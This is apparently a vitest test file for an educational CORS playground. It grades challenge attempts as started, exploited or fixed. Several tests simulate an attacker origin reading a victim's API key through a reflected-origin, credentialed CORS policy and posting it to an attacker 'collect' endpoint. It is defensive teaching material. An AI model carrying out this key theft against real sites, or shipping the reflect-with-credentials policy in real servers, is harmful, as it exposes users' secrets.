import { describe, expect, it } from 'vitest';
import type { ChallengeAttempts, ChallengeStatus, PlaygroundConfig } from '@cors-playground/protocol';
import { playgroundTesting } from '../start/playgroundTesting.testkit.ts';
import { stageAsk, stageStart } from './stageAsk.testkit.ts';

const control = async (config: PlaygroundConfig, method: string, path: string, body?: unknown) => {
  const response = await fetch(`${config.appOrigin}/control/sandboxes/s1${path}`, {
    method,
    headers: { 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  return response.json() as Promise<unknown>;
};
const status = async (config: PlaygroundConfig) =>
  (await control(config, 'GET', '/challenge')) as ChallengeStatus;

/** Starts reflect-sibling and logs the victim in; returns the stage path and the session cookie. */
async function reflectSibling(config: PlaygroundConfig) {
  const at = await stageStart(config, 's1', 'reflect-sibling');
  const login = await stageAsk(config.stage.victimApi, `${at}/login?session=cookie-lax`);
  const cookie = String(login.headers['set-cookie']).split(';')[0] ?? '';
  const collect = (body: string) =>
    stageAsk(config.stage.attackers.sibling ?? '', `${at}/collect`, { method: 'POST', body });
  return { at, cookie, collect };
}

/** Runs reflect-sibling's exploit as the blog's page would: the key read with the blog's Origin, then collected. */
async function reflectSiblingExploited(config: PlaygroundConfig) {
  const run = await reflectSibling(config);
  const blog = config.stage.attackers.sibling ?? '';
  const key = await stageAsk(config.stage.victimApi, `${run.at}/api-key`, {
    headers: { cookie: run.cookie, origin: blog },
  });
  await run.collect(key.body);
  return run;
}

const onlyTheApp = (config: PlaygroundConfig) => ({
  origin: { mode: 'list', allow: [config.stage.victimApp] },
  credentials: true,
});

describe('a challenge attempt', () => {
  it('is not exploited by the key read without an attacker origin and posted to collect (curl)', async () => {
    const { config } = await playgroundTesting();
    const { at, cookie, collect } = await reflectSibling(config);
    const key = await stageAsk(config.stage.victimApi, `${at}/api-key`, { headers: { cookie } });
    expect(key.status).toBe(200);
    await collect(key.body);
    const seen = await status(config);
    expect(seen.collect.at(-1)?.prize).toBe(true);
    expect(seen.attempt.state).toBe('started');
    // A "blocked" report posted by hand means nothing either.
    await collect('blocked: TypeError: Failed to fetch');
    expect((await status(config)).attempt.state).toBe('started');
  });

  it('is exploited by the key a seat origin received, with that request as evidence', async () => {
    const { config } = await playgroundTesting();
    const blog = config.stage.attackers.sibling ?? '';
    const { at, cookie, collect } = await reflectSibling(config);
    const key = await stageAsk(config.stage.victimApi, `${at}/api-key`, {
      headers: { cookie, origin: blog },
    });
    expect((await status(config)).attempt.state).toBe('started'); // the prize has not reached the attacker yet
    await collect(key.body);
    const { attempt } = await status(config);
    expect(attempt).toMatchObject({
      state: 'exploited',
      exploitedAt: expect.any(Number),
      evidence: { origin: blog, seat: 'sibling', sessionTravelled: true, requestLine: 'GET /api-key' },
    });
    // The session's value is never kept.
    expect(JSON.stringify(attempt)).not.toContain(cookie);
  });

  it('is fixed by replaying the exploit against the live policy, and every policy change re-decides', async () => {
    const { config } = await playgroundTesting();
    const { at, cookie, collect } = await reflectSiblingExploited(config);
    const vulnerable = { origin: { mode: 'reflect' }, credentials: true };

    // A cosmetic change still leaks: no fix, whatever the page reports.
    await control(config, 'PUT', '/policy', { ...vulnerable, maxAge: 1 });
    await collect('blocked: TypeError: Failed to fetch');
    expect((await status(config)).attempt.state).toBe('exploited');
    // Switching the CORS layer off is no fix: switched on again, the policy still leaks.
    await control(config, 'PUT', '/policy', { ...vulnerable, enabled: false });
    expect((await status(config)).attempt.state).toBe('exploited');
    // Credentials off blocks the theft but breaks the victim's app: no fix.
    await control(config, 'PUT', '/policy', { origin: { mode: 'reflect' }, credentials: false });
    expect((await status(config)).attempt.state).toBe('exploited');

    // Only the app's origin: fixed, without running anything again.
    await control(config, 'PUT', '/policy', onlyTheApp(config));
    const fixed = (await status(config)).attempt;
    expect(fixed).toMatchObject({ state: 'fixed', fixedAt: expect.any(Number) });
    // The key read with the blog's Origin now carries no CORS headers: a browser hides it, so posting
    // it to collect by hand does not un-fix.
    const blog = config.stage.attackers.sibling ?? '';
    const key = await stageAsk(config.stage.victimApi, `${at}/api-key`, {
      headers: { cookie, origin: blog },
    });
    await collect(key.body);
    expect((await status(config)).attempt.state).toBe('fixed');
    // Reverting the fix un-fixes it.
    await control(config, 'PUT', '/policy', vulnerable);
    const reverted = (await status(config)).attempt;
    expect(reverted.state).toBe('exploited');
    expect(reverted.fixedAt).toBeUndefined();
  });

  it('is demonstrated in cross-site by an answer that came without the session', async () => {
    const { config } = await playgroundTesting();
    const at = await stageStart(config, 's1', 'cross-site');
    const evil = config.stage.attackers.crossSite ?? '';
    const answer = await stageAsk(config.stage.victimApi, `${at}/api-key`, { headers: { origin: evil } });
    expect(answer.status).toBe(401);
    await stageAsk(evil, `${at}/collect`, { method: 'POST', body: answer.body });
    expect((await status(config)).attempt).toMatchObject({
      state: 'exploited',
      evidence: { origin: evil, seat: 'crossSite', sessionTravelled: false },
    });
  });

  it('stays in the list while another challenge runs, and a restart of it re-decides', async () => {
    const { config } = await playgroundTesting();
    await reflectSiblingExploited(config);
    await control(config, 'PUT', '/policy', onlyTheApp(config));
    await stageStart(config, 's1', 'null-origin');
    let attempts = (await control(config, 'GET', '/challenge/attempts')) as ChallengeAttempts;
    expect(attempts['reflect-sibling']?.state).toBe('fixed');
    expect(attempts['null-origin']?.state).toBe('started');
    // The other challenge's policy does not touch a challenge that is not running.
    await control(config, 'PUT', '/policy', { origin: { mode: 'reflect' }, credentials: true });
    attempts = (await control(config, 'GET', '/challenge/attempts')) as ChallengeAttempts;
    expect(attempts['reflect-sibling']?.state).toBe('fixed');
    // Starting it again puts its vulnerable policy live: exploited again.
    await stageStart(config, 's1', 'reflect-sibling');
    attempts = (await control(config, 'GET', '/challenge/attempts')) as ChallengeAttempts;
    expect(attempts['reflect-sibling']?.state).toBe('exploited');
  });
});
